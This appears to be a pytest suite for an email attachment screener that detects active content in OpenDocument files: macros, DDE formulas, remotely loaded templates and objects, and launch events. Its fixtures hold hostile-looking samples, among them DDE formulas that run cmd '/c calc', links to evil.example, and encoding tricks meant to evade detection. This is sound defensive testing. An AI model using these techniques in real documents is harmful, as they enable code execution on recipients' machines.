"""What acts in OpenDocument files, in a ZIP and flat: macros, DDE, what is loaded from elsewhere, events."""

import pytest
from fakes.evasions.containers import zipped
from fakes.evasions.judging import screened, shipped
from fakes.odd_mail import attached

from screener.anatomy.active import Active
from screener.anatomy.defects import Defect
from screener.anatomy.message import Anatomy
from screener.mail.verdict import Action

ROOT = (
    '<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:script="s" '
    'office:mimetype="application/vnd.oasis.opendocument.text">{}</office:document>'
)
MODULE = (
    '<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard">{}'
    "</ooo:library-embedded></ooo:libraries></office:script></office:scripts>"
)
CODE = '<ooo:module ooo:name="M"><ooo:source-code>Sub Main\nShell "calc"\nEnd Sub</ooo:source-code></ooo:module>'
XML = '<?xml version="1.0" encoding="UTF-8"?>\n'
FLAT = XML + ROOT.format(MODULE.format(CODE))


def package(markup: str, name: str = "content.xml", codec: str = "utf-8") -> bytes:
    mimetype = b"application/vnd.oasis.opendocument.text"
    return zipped(("mimetype", mimetype), (name, markup.encode(codec)), ("META-INF/manifest.xml", b"<m/>"))


def acts(octets: bytes, name: str) -> set[Active]:
    return {kind for one in Anatomy(attached(octets, name)).attachments for kind in one.active_content}


@pytest.mark.parametrize("name", ["a.fodt", "a.odt", "a.xml", "a.txt", "a"])
@pytest.mark.parametrize(
    "octets",
    [
        FLAT.encode(),
        FLAT.removeprefix(XML).encode(),
        FLAT.encode("utf-16"),
        FLAT.replace("office:", "o-1:").replace("ooo:", "").encode(),
        FLAT.replace("ooo:", "\u00e0:").encode(),
        FLAT.replace("ooo:", "\u0120:").encode("utf-16"),
        FLAT.replace("<ooo:source-code>", "<ooo:source-code\n x='>'>").encode(),
    ],
)
def test_macros_of_flat_documents(octets: bytes, name: str) -> None:
    content = attached(octets, name)
    anatomy = Anatomy(content)
    assert any(one.macros for one in anatomy.attachments)
    assert Defect.CONTAINER_DAMAGED not in {one.defect for one in anatomy.all_defects()}
    assert screened(shipped(), content).verdicts[0].action is Action.HOLD


@pytest.mark.parametrize(
    "script", ["", MODULE.format(""), MODULE.format('<ooo:module ooo:name="M"><ooo:source-code/></ooo:module>')]
)
@pytest.mark.parametrize("name", ["a.fodt", "a.odt"])
def test_flat_documents_without_macros_pass(script: str, name: str) -> None:
    content = attached((XML + ROOT.format(script)).encode(), name)
    anatomy = Anatomy(content)
    assert not anatomy.all_defects()
    assert not any(one.macros or one.active_content for one in anatomy.attachments)
    assert screened(shipped(), content).verdicts[0].action is Action.FORWARD


def test_files_in_flat_documents_are_found() -> None:
    octets = ROOT.format(
        "<draw:object-ole><office:binary-data>\nTVqQAAMAAAAEAAAA//8AALgAAAA=</office:binary-data></draw:object-ole>"
    )
    assert any(one.octets().startswith(b"MZ") for one in Anatomy(attached(octets.encode(), "a.fodt")).attachments if one.depth)


@pytest.mark.parametrize("octets", [b"Just a text.\r\n", b'<?xml version="1.0"?><office:document/>'])
def test_what_is_called_open_document_and_is_none_is_damaged(octets: bytes) -> None:
    assert Defect.CONTAINER_DAMAGED in {one.defect for one in Anatomy(attached(octets, "a.odt")).all_defects()}


CELL = '<table:table-cell table:formula="{}"/>'
EVENT = '<script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="{}"/>'
LOADED = '<{} xlink:href="{}" xlink:actuate="onLoad"/>'


@pytest.mark.parametrize(
    ("markup", "active"),
    [
        (CELL.format("of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A0&quot;)"), {Active.DDE}),
        (CELL.format("of:=&#68;DE (&quot;cmd&quot;;&quot;x&quot;)"), {Active.DDE}),
        (CELL.format("msoxl:=cmd|'/c calc'!A0"), {Active.DDE}),
        ('<table:dde-link><office:dde-source office:dde-application="cmd"/></table:dde-link>', {Active.DDE}),
        ('<text:dde-connection-decl\noffice:dde-application="cmd"/>', {Active.DDE}),
        (LOADED.format("text:section-source", "http://evil.example/x.odt"), {Active.LINKED_OBJECT}),
        (LOADED.format("draw:object-ole", "&#104;ttp://evil.example/x.odt"), {Active.LINKED_OBJECT}),
        (LOADED.format("object", "http://evil.example/x.odt"), {Active.LINKED_OBJECT}),
        (LOADED.format("library:library", "http://evil.example/L/script.xlb"), {Active.LINKED_OBJECT}),
        (LOADED.format("library:library", "$(USER)/basic/L/script.xlb"), set()),
        (LOADED.format("draw:image", "file://evil.example/x.png"), {Active.SHARE}),
        (LOADED.format("style:background-image", "//evil.example/x.png"), {Active.SHARE}),
        (LOADED.format("draw:image", "file://fileserver/x.png"), set()),
        (LOADED.format("draw:image", "http://example.net/x.png"), set()),
        (LOADED.format("draw:image", "Pictures/x.png"), set()),
        (LOADED.format("draw:floating-frame", "file://evil.example/x"), {Active.LINKED_OBJECT}),
        (LOADED.format("draw:floating-frame", "file://fileserver/x"), {Active.SHARE}),
        (LOADED.format("meta:template", "https://evil.example/x.ott"), {Active.TEMPLATE}),
        (EVENT.format("vnd.sun.star.script:../pydoc.py$f(1,calc)?language=Python&amp;location=share"), {Active.LAUNCH}),
        ('<presentation:event-listener presentation:action="execute" xlink:href="cmd.exe"/>', {Active.LAUNCH}),
        # What honest documents have.
        (CELL.format("of:=&quot;DDE(&quot;&amp;[.A1]"), set()),
        (CELL.format("of:=SUM({1;2|3;4})"), set()),
        ('<table:dde-links/><text:section-source text:section-name="a"/>', set()),
        (LOADED.format("draw:object", "./Object 1"), set()),
        (LOADED.format("meta:template", "file:///C:/Templates/letter.ott"), set()),
        (EVENT.format("vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"), set()),
        ('<presentation:event-listener presentation:action="next-page"/><text:a xlink:href="http://a.example/">x</text:a>', set()),
    ],
)
def test_what_acts(markup: str, active: set[Active]) -> None:
    part = f"{XML}<office:document-content>{markup}</office:document-content>"
    assert acts(package(part), "a.odt") == active
    assert acts(package(part, "Object 1/x.xml", "utf-16"), "a.odt") == active
    assert acts((XML + ROOT.format(markup)).encode(), "a.fodt") == active
